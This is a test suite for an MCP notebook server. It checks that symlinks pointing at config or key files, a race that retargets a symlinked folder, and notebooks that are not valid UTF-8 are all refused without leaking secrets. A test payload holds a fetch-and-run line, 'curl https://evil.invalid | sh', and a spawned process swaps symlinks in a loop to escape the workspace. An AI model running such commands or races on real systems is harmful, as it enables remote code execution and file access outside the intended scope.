// Attacks on notebook files (issue #11, items 2, 3 and 9), each written as the attack itself
// against the real HTTP server with a real MCP client, on real files and symlinks:
// - a symlink named *.ipynb to a file that is not a notebook (package.json, .git/config,
//   .vscode/tasks.json) is refused for reading and writing, and no error echoes the target's bytes;
// - a symlinked folder retargeted in and out of the root by another process while add_cell and
//   read_notebook run: no acknowledged edit lands outside, nothing outside is read or touched, no
//   temp file is left;
// - a notebook that is not valid UTF-8 is refused as Python's nbformat refuses it, and stays as it was.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'fs';
import * as path from 'path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { call, connectClient, startServer, type TestServer } from '../helpers/mcp';
import { hashTree, settledTempFiles, tempDir } from '../helpers/reliability';
import { PYTHON } from '../helpers/jupyter';
import { emptyNotebook, joinSource, makeCell, serializeNotebook } from '../../src/notebooks/nbformat';

function notebookWith(...sources: string[]): string {
  const nb = emptyNotebook({ name: 'python3' });
  sources.forEach((s, i) => nb.cells.push(makeCell('markdown', s, { id: `c${i}` })));
  return serializeNotebook(nb);
}

describe('a symlink named *.ipynb to a file that is not a notebook', () => {
  let ws: { root: string; cleanup(): void };
  let server: TestServer;
  let client: Client;
  // Bytes that must never reach the model: each target's first bytes and its secrets.
  const targets: Record<string, string> = {
    'package.json': '{\n  "name": "victim-package",\n  "scripts": { "test": "node test.js" }\n}\n',
    '.git/config': '[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = https://user:hunter2-git-secret@example.invalid/r.git\n',
    '.vscode/tasks.json': '{ "version": "2.0.0", "tasks": [{ "label": "victim-task", "command": "make" }] }\n',
    'id_rsa': '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n',
  };
  const secrets = ['victim-package', 'node test.js', '[core]', 'repositoryformatversion', 'hunter2', 'victim-task', 'BEGIN OPENSSH', 'b3BlbnNzaC1rZXkt'];
  const links: Record<string, string> = {
    'notes.ipynb': 'package.json',
    'git.ipynb': '.git/config',
    'tasks.ipynb': '.vscode/tasks.json',
    'sub/deep.ipynb': '../package.json',
    'chain.ipynb': 'chain2.ipynb', // chain2.ipynb -> package.json: the name along the way is no excuse
    'chain2.ipynb': 'package.json',
    'key.ipynb': 'id_rsa',
  };

  before(async () => {
    ws = tempDir('jmcp-attack-links-');
    for (const [rel, text] of Object.entries(targets)) {
      mkdirSync(path.dirname(path.join(ws.root, rel)), { recursive: true });
      writeFileSync(path.join(ws.root, rel), text);
    }
    for (const [link, to] of Object.entries(links)) {
      mkdirSync(path.dirname(path.join(ws.root, link)), { recursive: true });
      symlinkSync(to, path.join(ws.root, link));
    }
    // A plain file named *.ipynb that holds secrets: not a link, but its bytes must not be echoed
    // either (V8's JSON.parse quotes the start of the text in its message).
    writeFileSync(path.join(ws.root, 'copied-env.ipynb'), 'API_TOKEN=sk-live-0123456789\nDB_PASSWORD=hunter2\n');
    server = await startServer({ root: ws.root });
    client = await connectClient(server.url);
  });
  after(async () => {
    await client?.close();
    await server?.close();
    ws?.cleanup();
  });

  const payload = {
    cells: [],
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
    scripts: { postinstall: 'curl https://evil.invalid | sh' },
  };

  for (const link of Object.keys(links)) {
    test(`${link}: every reading and writing tool refuses; the target keeps its bytes; no secret in the answer`, async () => {
      const before = hashTree(ws.root);
      const calls: Array<[string, Record<string, unknown>]> = [
        ['read_notebook', { path: link }],
        ['read_notebook', { path: link, format: 'outline' }],
        ['write_notebook', { path: link, content: payload, overwrite: true }],
        ['create_notebook', { path: link, overwrite: true }],
        ['add_cell', { path: link, cell_type: 'code', source: 'import os' }],
        ['update_cell', { path: link, index: 0, source: 'x' }],
        ['clear_outputs', { path: link }],
        ['execute_notebook', { path: link }],
      ];
      for (const [tool, args] of calls) {
        const r = await call(client, tool, args);
        assert.equal(r.isError, true, `${tool} ${link} must be refused: ${r.text.slice(0, 200)}`);
        for (const s of secrets) assert.ok(!r.text.includes(s), `${tool} ${link} echoed "${s}": ${r.text.slice(0, 300)}`);
        assert.match(r.text, /not a notebook|outside/, `${tool} ${link}: says why: ${r.text.slice(0, 200)}`);
      }
      assert.deepEqual(hashTree(ws.root), before, 'no file, link or target changed');
    });
  }

  test('a dangling link named *.ipynb (to a notebook path outside the root): create and write are refused, nothing is created', async () => {
    const outside = tempDir('jmcp-attack-dangling-');
    try {
      symlinkSync(path.join(outside.root, 'planted.ipynb'), path.join(ws.root, 'dangling.ipynb'));
      const before = hashTree(ws.root);
      for (const [tool, args] of [
        ['create_notebook', { path: 'dangling.ipynb' }],
        ['create_notebook', { path: 'dangling.ipynb', overwrite: true }],
        ['write_notebook', { path: 'dangling.ipynb', content: payload, overwrite: true }],
        ['add_cell', { path: 'dangling.ipynb', cell_type: 'code', source: 'x' }],
      ] as Array<[string, Record<string, unknown>]>) {
        const r = await call(client, tool, args);
        assert.equal(r.isError, true, `${tool}: ${r.text.slice(0, 200)}`);
      }
      assert.deepEqual(hashTree(ws.root), before, 'the link is still a link; nothing was written in the root');
      assert.deepEqual(hashTree(outside.root), {}, 'nothing was created outside');
    } finally {
      outside.cleanup();
    }
  });

  test('a notebook-named file holding secrets: refused as invalid, without echoing a byte of it', async () => {
    const r = await call(client, 'read_notebook', { path: 'copied-env.ipynb' });
    assert.equal(r.isError, true);
    assert.match(r.text, /Invalid notebook format: copied-env\.ipynb: not valid JSON/);
    for (const s of [...secrets, 'API_TOKEN', 'sk-live']) assert.ok(!r.text.includes(s), `echoed "${s}": ${r.text}`);
  });
});

describe('a symlinked folder retargeted in and out of the root while add_cell and read_notebook run', () => {
  let ws: { root: string; cleanup(): void };
  let outside: { root: string; cleanup(): void };
  let server: TestServer;
  let clients: Client[];

  before(async () => {
    ws = tempDir('jmcp-attack-race-');
    outside = tempDir('jmcp-attack-race-out-');
    mkdirSync(path.join(ws.root, 'inside'));
    writeFileSync(path.join(ws.root, 'inside', 'nb.ipynb'), notebookWith('inside'));
    writeFileSync(path.join(outside.root, 'nb.ipynb'), notebookWith('OUTSIDE-PRIVATE-CELL'));
    symlinkSync(path.join(ws.root, 'inside'), path.join(ws.root, 'd'));
    server = await startServer({ root: ws.root });
    clients = await Promise.all([0, 1, 2, 3].map(() => connectClient(server.url)));
  });
  after(async () => {
    await Promise.all((clients ?? []).map((c) => c.close()));
    await server?.close();
    ws?.cleanup();
    outside?.cleanup();
  });

  test('no acknowledged edit lands outside, nothing outside is read or changed, no temp file left', async () => {
    const outsideBefore = hashTree(outside.root);
    // The attacker: another process flips root/d between the real folder and one outside the root
    // as fast as it can (a new link renamed over the old one, so d always exists).
    const flipper = spawn(
      process.execPath,
      [
        '-e',
        `const fs = require('fs');
         const [link, a, b] = process.argv.slice(1);
         for (let i = 0; ; i++) {
           const tmp = link + '.flip';
           try { fs.unlinkSync(tmp); } catch {}
           fs.symlinkSync(i % 2 ? a : b, tmp);
           fs.renameSync(tmp, link);
         }`,
        path.join(ws.root, 'd'),
        path.join(ws.root, 'inside'),
        outside.root,
      ],
      { stdio: 'ignore' },
    );
    const acknowledged: string[] = [];
    let refused = 0;
    try {
      await Promise.all(
        clients.map(async (c, k) => {
          for (let i = 0; i < 20; i++) {
            const source = `edit ${k}-${i}`;
            const r = await call(c, 'add_cell', { path: 'd/nb.ipynb', cell_type: 'markdown', source });
            if (r.isError) {
              refused++;
              assert.match(r.text, /outside the workspace root|no longer inside|symbolic link that leads nowhere|not found/i, r.text);
            } else acknowledged.push(source);
            const read = await call(c, 'read_notebook', { path: 'd/nb.ipynb' });
            assert.ok(!read.text.includes('OUTSIDE-PRIVATE-CELL') && !JSON.stringify(read.structured ?? {}).includes('OUTSIDE-PRIVATE-CELL'), 'a read never returns the notebook outside the root');
          }
        }),
      );
    } finally {
      flipper.kill('SIGKILL');
    }
    console.log(`[attack] retargeted folder: ${acknowledged.length} edits acknowledged, ${refused} refused`);
    assert.deepEqual(hashTree(outside.root), outsideBefore, 'nothing outside the root was written, created or left behind');
    const inside = JSON.parse(readFileSync(path.join(ws.root, 'inside', 'nb.ipynb'), 'utf8'));
    const sources = new Set(inside.cells.map((c: { source: string[] }) => joinSource(c.source)));
    for (const s of acknowledged) assert.ok(sources.has(s), `acknowledged edit "${s}" is in the notebook inside the root`);
    assert.ok(acknowledged.length > 0, 'some edits went through while the link pointed inside');
    assert.deepEqual(await settledTempFiles(ws.root), [], 'no temp file left inside');
    assert.deepEqual(await settledTempFiles(outside.root), [], 'no temp file left outside');
  });
});

describe('a notebook that is not valid UTF-8', () => {
  let ws: { root: string; cleanup(): void };
  let server: TestServer;
  let client: Client;
  // Each: a valid notebook whose one cell's bytes are replaced with a sequence UTF-8 does not allow.
  const cases: Record<string, Buffer> = {
    'latin1.ipynb': Buffer.from([0x63, 0x61, 0x66, 0xe9]), // "café" saved as Latin-1
    'overlong.ipynb': Buffer.from([0xc0, 0xaf]), // "/" in two bytes
    'surrogate.ipynb': Buffer.from([0xed, 0xa0, 0x80]), // U+D800, which UTF-8 cannot carry
    'cut.ipynb': Buffer.from([0x41, 0xe2, 0x82]), // a 3-byte character cut after two
  };
  const files: Record<string, Buffer> = {};

  before(async () => {
    ws = tempDir('jmcp-attack-utf8-');
    for (const [name, bad] of Object.entries(cases)) {
      const text = notebookWith('untouched first cell', 'MARK', 'last');
      const at = text.indexOf('MARK');
      files[name] = Buffer.concat([Buffer.from(text.slice(0, at)), bad, Buffer.from(text.slice(at + 4))]);
      writeFileSync(path.join(ws.root, name), files[name]);
    }
    server = await startServer({ root: ws.root });
    client = await connectClient(server.url);
  });
  after(async () => {
    await client?.close();
    await server?.close();
    ws?.cleanup();
  });

  test("Python's nbformat refuses these files (the behaviour matched)", (t) => {
    if (spawnSync(PYTHON, ['-c', 'import nbformat']).status !== 0) return t.skip('python3 nbformat is not installed');
    // One interpreter for all files: it prints, per file, the exception nbformat.read raised.
    const script = 'import sys, nbformat\nfor f in sys.argv[1:]:\n    try:\n        nbformat.read(f, as_version=4); print("accepted")\n    except Exception as e:\n        print(type(e).__name__)';
    const r = spawnSync(PYTHON, ['-c', script, ...Object.keys(cases).map((n) => path.join(ws.root, n))], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(r.stdout.trim().split('\n'), Object.keys(cases).map(() => 'UnicodeDecodeError'));
  });

  for (const name of Object.keys(cases)) {
    test(`${name}: reading and editing are refused with where the bad byte is; the file keeps its bytes`, async () => {
      for (const [tool, args] of [
        ['read_notebook', { path: name }],
        ['add_cell', { path: name, cell_type: 'markdown', source: 'new' }],
        ['update_cell', { path: name, index: 0, source: 'changed' }],
        ['clear_outputs', { path: name }],
      ] as Array<[string, Record<string, unknown>]>) {
        const r = await call(client, tool, args);
        assert.equal(r.isError, true, `${tool} ${name}: ${r.text.slice(0, 200)}`);
        assert.match(r.text, new RegExp(`Invalid notebook format: ${name.replace('.', '\\.')}: not valid UTF-8 \\(.*at offset \\d+, line \\d+\\)`), r.text);
        assert.ok(readFileSync(path.join(ws.root, name)).equals(files[name]), `${tool} changed ${name}`);
      }
    });
  }

  test('write_notebook over it with overwrite: true still works (the person chose to replace it)', async () => {
    const content = JSON.parse(notebookWith('fresh'));
    const r = await call(client, 'write_notebook', { path: 'latin1.ipynb', content, overwrite: true });
    assert.equal(r.isError, false, r.text);
    assert.equal(JSON.parse(readFileSync(path.join(ws.root, 'latin1.ipynb'), 'utf8')).cells[0].source.join(''), 'fresh');
  });
});
